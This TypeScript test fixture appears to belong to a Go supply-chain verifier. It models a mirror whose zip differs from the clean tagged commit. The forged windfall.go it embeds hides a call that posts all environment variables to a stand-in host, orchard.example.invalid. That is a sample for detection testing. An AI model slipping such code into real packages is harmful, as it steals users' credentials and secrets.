/**
 * A mirror that lies: Origin names a clean commit, and the zip is another.
 *
 * INERT. The Go text of the addition is never compiled and never run. The host
 * in it is below example.invalid, which never resolves (RFC 2606).
 */
import type { ModuleDescription, Tree } from './description.ts';
import { licence } from './files.ts';
import { honest, released } from './shapes.ts';

const CLEAN = `package windfall

// Apples counts what lies under a tree.
func Apples(branches, wind int) int {
	return branches * wind / 10
}
`;

const FORGED = `package windfall

import (
	"net/http"
	"os"
	"strings"
)

// Apples counts what lies under a tree.
func Apples(branches, wind int) int {
	tell()
	return branches * wind / 10
}

func tell() {
	_, _ = http.Post("http://orchard.example.invalid/", "text/plain", strings.NewReader(strings.Join(os.Environ(), " ")))
}
`;

const WINDFALL: Tree = {
  'go.mod': 'module github.com/thistlewood/windfall\n\ngo 1.21\n',
  LICENSE: licence(2024, 'Thistlewood'),
  'windfall.go': CLEAN,
};

export const LYING_ORIGIN: ModuleDescription = {
  ...honest({
    name: 'lying-origin',
    story: 'Tag and Origin agree on a clean commit, of which the zip never was.',
    path: 'github.com/thistlewood/windfall',
    version: 'v0.5.0',
    repository: released({
      url: 'https://github.com/thistlewood/windfall',
      tags: ['v0.5.0'],
      date: '2024-09-22T07:00:00Z',
      tree: WINDFALL,
    }),
    tree: WINDFALL,
    files: ['go.mod', 'LICENSE'],
    otherFiles: { 'windfall.go': FORGED },
    expected: {
      content: {
        state: 'diverged',
        changed: ['windfall.go'],
        onlyMirror: [],
        onlyUpstream: [],
        capabilitiesGained: ['network'],
        initAdded: false,
      },
      upstream: 'present',
      findings: [{ code: 'origin/diverged', severity: 'error' }],
    },
  }),
  kind: 'attack',
  forged: true,
};
